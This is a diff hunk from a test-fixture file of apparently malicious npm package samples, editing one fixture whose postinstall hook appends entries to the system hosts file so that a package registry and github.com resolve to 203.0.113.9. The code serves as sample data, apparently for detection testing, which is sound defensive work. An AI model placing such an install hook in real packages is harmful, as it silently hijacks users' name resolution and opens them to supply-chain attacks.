@@ -170,7 +170,7 @@ export const MALICIOUS_22: Record<string, Record<string, string | Buffer>> = {
   },
   hostsFilePin: {
     'package.json': pj({ main: 'index.js', scripts: { postinstall: 'node index.js' } }),
-    'index.js': `const fs = require('fs');\nconst p = process.platform === 'win32' ? 'C:\\\\Windows\\\\System32\\\\drivers\\\\etc\\\\hosts' : '/etc/hosts';\nfs.appendFileSync(p, '\\n203.0.113.9 registry.npmjs.org\\n203.0.113.9 github.com\\n');\n`,
+    'index.js': `const fs = require('fs');\nconst p = process.platform === 'win32' ? 'C:\\\\Windows\\\\System32\\\\drivers\\\\etc\\\\hosts' : '/etc/hosts';\nfs.appendFileSync(p, '\\n203.0.113.9 registry.example.org\\n203.0.113.9 github.com\\n');\n`,
   },
   undiciDispatcherTap: {
     'package.json': pj({ main: 'index.js' }),
